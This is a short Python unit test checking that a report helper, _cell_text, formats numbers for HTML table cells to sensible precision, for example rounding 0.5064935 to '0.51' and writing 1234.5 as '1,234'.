def test_html_cells_have_sensible_precision():
    from analysis.reports.index_html import _cell_text
    assert [_cell_text(v, 3) for v in (0.5064935064935064, -0.000656, 1234.5, 0.0, 12)] == \
        ["0.51", "-0.00066", "1,234", "0.00", "12"]
